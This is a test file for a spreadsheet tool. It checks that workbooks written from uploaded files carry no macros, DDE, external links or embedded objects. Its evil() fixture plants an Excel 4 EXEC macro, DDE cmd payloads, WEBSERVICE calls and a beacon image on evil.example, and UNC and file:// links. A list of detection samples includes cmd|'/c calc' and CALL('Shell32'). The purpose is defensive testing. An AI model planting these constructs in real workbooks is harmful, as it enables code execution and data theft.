"""Every workbook that we write from one that was handed in carries no macros and leads nowhere outside."""

from __future__ import annotations

import ast
import io
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest

from warmap.reading import read_document
from warmap_app.main import main
from warmap_app.own_functions import OwnFunctions
from warmap_workbook import editing
from warmap_workbook.editing.brought_along import with_brought_along
from warmap_workbook.editing.file_edits import repaired, with_entries, without_macros
from warmap_workbook.editing.harmless import Stripped, reaches
from warmap_workbook.editing.notes import write_copy
from warmap_workbook.editing.upgrade import upgraded
from warmap_workbook.ooxml import read_book
from warmap_workbook.ooxml.reaching_out import reach_of
from warmap_workbook.reading.read import read_workbook
from warmap_workbook.samples import load_sample
from warmap_workbook.writing.build import OwnSheet, build_workbook

MAP = read_document(load_sample("manufacturer_mes", "en")).map
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
WEB = "https://intranet.example/page"
DEAL, GUIDE = "xl/worksheets/sheet3.xml", "xl/worksheets/sheet2.xml"
BOOK, TYPES, ROOT = "xl/workbook.xml", "[Content_Types].xml", "_rels/.rels"


def relation(id_, kind, target, mode=""):
    base = MICROSOFT if kind in {"vbaProject", "xlMacrosheet", "ui/extensibility"} else OFFICE
    external = ' TargetMode="External"' if mode else ""
    return f'<Relationship Id="{id_}" Type="{base}/{kind}" Target="{target}"{external}/>'


def part_of(parts, part):
    folder, _, name = part.rpartition("/")
    return f"{folder}/_rels/{name}.rels" if folder else f"_rels/{name}.rels"


def related(parts, part, *relations):
    name = part_of(parts, part)
    text = parts.get(name, f'<Relationships xmlns="{PACKAGE}"></Relationships>')
    parts[name] = text.replace("</Relationships>", "".join(relations) + "</Relationships>")


def typed(parts, name, kind):
    parts[TYPES] = parts[TYPES].replace("</Types>", f'<Override PartName="/{name}" ContentType="{kind}"/></Types>')


def put(parts, name, before, new):
    assert before in parts[name], (name, before)
    parts[name] = parts[name].replace(before, new, 1)


def evil():
    """A map with everything that a file may try, beside one link to a web page."""
    with zipfile.ZipFile(io.BytesIO(build_workbook(MAP, "en"))) as file:
        parts = {info.filename: file.read(info).decode() for info in file.infolist()}
    # macros, and a ribbon that calls them
    parts["xl/vbaProject.bin"] = "evil"
    related(parts, BOOK, relation("rIdV", "vbaProject", "vbaProject.bin"))
    put(
        parts,
        TYPES,
        "openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        "ms-excel.sheet.macroEnabled.main+xml",
    )
    parts["customUI/customUI.xml"] = "<customUI onLoad='evil'/>"
    related(parts, "", relation("rIdU", "ui/extensibility", "customUI/customUI.xml"))
    # a sheet of Excel 4 macros
    parts["xl/macrosheets/sheet1.xml"] = (
        f'<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main" xmlns="{MAIN}"><sheetData><row r="1"><c r="A1"><f>EXEC("evil")</f><v>1</v></c></row></sheetData></xm:macrosheet>'
    )
    typed(parts, "xl/macrosheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml")
    related(parts, BOOK, relation("rIdM", "xlMacrosheet", "macrosheets/sheet1.xml"))
    put(parts, BOOK, "</sheets>", f'<sheet name="m" sheetId="99" xmlns:r="{OFFICE}" r:id="rIdM"/></sheets>')
    # hyperlinks: to a network place, to a file, to a web page
    links = (
        ("rIdH1", "\\\\evil\\share\\x"),
        ("rIdH2", "file:///C:/evil.exe"),
        ("rIdH3", WEB),
        ("rIdH4", "search-ms:evil"),
    )
    related(parts, DEAL, *(relation(id_, "hyperlink", target, "x") for id_, target in links))
    tags = "".join(f'<hyperlink ref="E{row}" r:id="{id_}"/>' for row, (id_, _) in enumerate(links, 40))
    parts[DEAL] = (
        re.sub(r"(<hyperlinks>)", rf"\1{tags}", parts[DEAL])
        if "<hyperlinks>" in parts[DEAL]
        else re.sub(r"(<pageMargins)", rf'<hyperlinks xmlns:r="{OFFICE}">{tags}</hyperlinks>\1', parts[DEAL], count=1)
    )
    # a picture from outside
    drawing = next(name for name in parts if re.fullmatch(r"xl/drawings/drawing\d+\.xml", name))
    picture = f'<xdr:twoCellAnchor><xdr:from><xdr:col>1</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>1</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:from><xdr:to><xdr:col>2</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>2</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:to><xdr:pic><xdr:nvPicPr><xdr:cNvPr id="90" name="p"/><xdr:cNvPicPr/></xdr:nvPicPr><xdr:blipFill><a:blip xmlns:r="{OFFICE}" r:link="rIdP"/></xdr:blipFill><xdr:spPr><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></xdr:spPr></xdr:pic><xdr:clientData/></xdr:twoCellAnchor>'
    put(parts, drawing, "</xdr:wsDr>", picture + "</xdr:wsDr>")
    related(parts, drawing, relation("rIdP", "image", "http://evil.example/beacon.png", "x"))
    # DDE, a link to a workbook, and formulas that fetch
    parts["xl/externalLinks/externalLink1.xml"] = (
        f'<externalLink xmlns="{MAIN}"><ddeLink ddeService="cmd" ddeTopic="/c evil"/></externalLink>'
    )
    parts["xl/externalLinks/externalLink2.xml"] = (
        f'<externalLink xmlns="{MAIN}"><externalBook xmlns:r="{OFFICE}" r:id="rId1"/></externalLink>'
    )
    related(
        parts,
        "xl/externalLinks/externalLink2.xml",
        relation("rId1", "externalLinkPath", "\\\\evil\\share\\prices.xlsx", "x"),
    )
    for number in (1, 2):
        typed(
            parts,
            f"xl/externalLinks/externalLink{number}.xml",
            "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml",
        )
    related(parts, BOOK, *(relation(f"rIdL{n}", "externalLink", f"externalLinks/externalLink{n}.xml") for n in (1, 2)))
    put(
        parts,
        BOOK,
        "<definedNames>",
        f'<externalReferences xmlns:r="{OFFICE}"><externalReference r:id="rIdL1"/><externalReference r:id="rIdL2"/></externalReferences><definedNames><definedName name="mine">[2]Evil!$A$1</definedName>',
    )
    cells = [
        ("A", "<f>[1]!'!A0'</f><v>1</v>"),
        ("B", "<f>cmd|'/c evil'!A0</f><v>2</v>"),
        ("C", '<f>WEBSERVICE("http://evil.example/"&amp;$A$1)</f><v>3</v>'),
        ("D", '<f t="shared" ref="D400:E400" si="77">[2]Evil!$A$1</f><v>4</v>'),
        ("E", '<f t="shared" si="77"/><v>5</v>'),
        ("F", '<f>HYPERLINK("\\\\evil\\x","y")</f><v>6</v>'),
        ("G", "<f>1+1</f><v>2</v>"),
    ]
    row = "".join(f'<c r="{column}400">{content}</c>' for column, content in cells)
    put(parts, GUIDE, "</sheetData>", f'<row r="400">{row}</row></sheetData>')
    # a web query, an object of another program
    parts["xl/connections.xml"] = (
        f'<connections xmlns="{MAIN}"><connection id="1" name="q"><webPr url="http://evil.example/q"/></connection></connections>'
    )
    typed(parts, "xl/connections.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml")
    related(parts, BOOK, relation("rIdC", "connections", "connections.xml"))
    parts["xl/embeddings/oleObject1.bin"] = "evil"
    parts[TYPES] = parts[TYPES].replace(
        "</Types>",
        '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/></Types>',
    )
    related(parts, GUIDE, relation("rIdO", "oleObject", "../embeddings/oleObject1.bin"))
    put(
        parts,
        GUIDE,
        "</worksheet>",
        f'<oleObjects xmlns:r="{OFFICE}"><oleObject progId="Package" shapeId="1" r:id="rIdO"/></oleObjects></worksheet>',
    )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as file:
        for name, text in parts.items():
            file.writestr(name, text)
    return out.getvalue()


EVIL = evil()
FORMULAS_AS_TEXT = re.compile(rb"<t\b[^>]*>=[^<]*</t>")  # for a person to read: such a text does nothing


def noted(data):
    out = io.BytesIO()
    write_copy(data, lambda sheets: {sheets[1]: [((5, 2), "fix this")]}, "en", out)
    return out.getvalue()


def of_the_command(*words):
    def write(data, folder):
        source, out = folder / "in.xlsm", folder / "out.xlsx"
        source.write_bytes(data)
        assert main([words[0], *words[1:], str(source), "-o", str(out), "--lang", "en"]) == 0
        return out.read_bytes()

    return write


WRITERS = {
    "notes": lambda data, _: noted(data),
    "repair": lambda data, _: repaired(data).content,
    "entries": lambda data, _: with_entries(data, {}, OwnFunctions()),
    "brought along": lambda data, _: with_brought_along(data, [OwnSheet("More", {(1, 1): (1.0, "")})], {}, "en"),
    "submit": lambda data, _: without_macros(data),
    "upgrade": lambda data, _: upgraded(read_book(data), read_workbook(data)).content,
    "warmap repair": of_the_command("repair"),
    "warmap upgrade": of_the_command("upgrade"),
    "warmap new --from": of_the_command("new", "--from"),
}
IN_PLACE = ("notes", "repair", "submit", "entries")
every_writer = pytest.mark.parametrize("write", WRITERS.values(), ids=WRITERS)


def test_the_file_itself_is_told_of_in_full():
    told = " ".join(one.message("en") for one in read_workbook(EVIL).findings if one.code == "DV502")
    for words in ("\\\\evil\\share\\x", "file:///C:/evil.exe", "search-ms:evil", "beacon.png", "cmd|/c evil", "prices.xlsx",
                  "WEBSERVICE", "cmd|'/c evil'!A0", "HYPERLINK", "evil.example/q", "oleObject1.bin"):  # fmt: skip
        assert words in told
    assert WEB not in told
    assert "DV501" in {one.code for one in read_workbook(EVIL).findings}


@every_writer
class TestEveryWriter:
    def test_nothing_of_it_is_left(self, write, tmp_path):
        with zipfile.ZipFile(io.BytesIO(write(EVIL, tmp_path))) as copy:
            assert copy.testzip() is None
            parts = {name: copy.read(name) for name in copy.namelist()}
        text = b"\n".join(parts.values())
        for words in (b"cmd|", b"WEBSERVICE(", b"vbaProject", b"macroEnabled", b"EXEC(", b"beacon", b"prices.xlsx", b"connections",
                      b"embeddings", b"oleObject", b"customUI", b"externalReference", b"evil\\share"):  # fmt: skip
            kept = [
                name
                for name, data in parts.items()
                if words in FORMULAS_AS_TEXT.sub(b"", data) or words.decode() in name
            ]
            assert [name for name in kept if (name, words) != (TYPES, b"oleObject")] == [], words
        outside = re.findall(rb'<Relationship [^>]*TargetMode="External"[^>]*>', text)
        assert [one for one in outside if WEB.encode() not in one] == []

    def test_it_is_read_as_the_same_map_and_nothing_is_told(self, write, tmp_path):
        copy = read_workbook(write(EVIL, tmp_path))
        assert copy.map == MAP
        assert {one.code for one in copy.findings} & {"DV501", "DV502", "DV002"} == set()

    def test_another_program_reads_it(self, write, tmp_path):
        book = openpyxl.load_workbook(io.BytesIO(write(EVIL, tmp_path)))
        assert book["Deal"]["B5"].value == MAP.deal.account


@pytest.mark.parametrize("write", [WRITERS[name] for name in IN_PLACE], ids=IN_PLACE)
class TestCopiesInPlace:
    def test_results_stay_where_formulas_went(self, write, tmp_path):
        sheet = read_book(write(EVIL, tmp_path)).sheet("Guide")
        assert [sheet.value(400, column) for column in range(1, 8)] == [1, 2, 3, 4, 5, 6, 2]
        assert [at for at in sheet.formulas if at[0] == 400] == [(400, 7)]

    def test_links_to_web_pages_stay(self, write, tmp_path):
        with zipfile.ZipFile(io.BytesIO(write(EVIL, tmp_path))) as copy:
            assert WEB.encode() in copy.read("xl/worksheets/_rels/sheet3.xml.rels")
            assert b'r:id="rIdH3"' in copy.read(DEAL)
            assert b"rIdH1" not in copy.read(DEAL)

    def test_a_workbook_without_any_of_it_keeps_every_part(self, write, tmp_path):
        plain = build_workbook(MAP, "en")
        if write is WRITERS["submit"]:
            return
        with zipfile.ZipFile(io.BytesIO(plain)) as old, zipfile.ZipFile(io.BytesIO(write(plain, tmp_path))) as new:
            same = [name for name in old.namelist() if old.read(name) == new.read(name)]
        assert len(same) >= len(zipfile.ZipFile(io.BytesIO(plain)).namelist()) - 3


def test_whoever_edits_a_package_makes_it_harmless():
    """But for what adds to a person's own workbook or renews it, which keeps its macros, and what we have just built."""
    found = {}
    for path in Path(editing.__file__).parent.glob("*.py"):
        for node in ast.walk(ast.parse(path.read_text("utf-8"))):
            if isinstance(node, ast.FunctionDef) and "PackageEdit(" in ast.unparse(node):
                found[node.name] = "made_harmless(" in ast.unparse(node)
    own = {"with_history", "recalculated", "build_with_picture"}
    assert {name for name, is_harmless in found.items() if not is_harmless} == own
    assert len(found) >= 4


REACHING = [
    "cmd|'/c calc'!A0", "'cmd|/c calc'!A0", "1+MSEXCEL|'..\\x'!''", 'WEBSERVICE("http://x")', "_xlfn.WEBSERVICE(A1)", "filterxml(A1,A2)",
    'RTD("p",,"t")', 'IMPORTDATA("u")', "_xlfn.IMAGE(A1)", 'CALL("Shell32","x")', 'REGISTER.ID("a","b")', 'HYPERLINK("\\\\h\\s","x")',
    'HYPERLINK("file:///c:/x")', "'\\\\h\\s\\[b.xlsx]S'!A1", "'http://h/[b.xlsx]S'!A1",
]  # fmt: skip
PLAIN = [
    "A1+1", '"cmd|x"&A1', 'HYPERLINK("#wm_deal","x")', 'HYPERLINK("https://h/p","x")', 'HYPERLINK("mailto:a@b")', "RECALL(A1)",
    "wm_IMAGE+1", "'Sales 2026'!A1", '"WEBSERVICE(A1)"', "IMPORTANT(A1)", "",
]  # fmt: skip


@pytest.mark.parametrize("formula", REACHING)
def test_a_formula_that_reaches_out(formula):
    assert reach_of(formula) or "http://h/[b" in formula
    assert reaches(formula) or "http://h/[b" in formula


@pytest.mark.parametrize("formula", PLAIN)
def test_one_that_does_not(formula):
    assert reach_of(formula) is None


def test_a_sheet_may_bear_the_sign_of_dde_in_its_name():
    assert reach_of("'a|b'!A1") is not None
    assert reach_of("'a|b'!A1", ["A|B"]) is None


def test_what_was_left_out_is_counted():
    assert repaired(EVIL).left_out.formulas >= 6
    assert repaired(build_workbook(MAP, "en")).left_out == Stripped(0, 0)
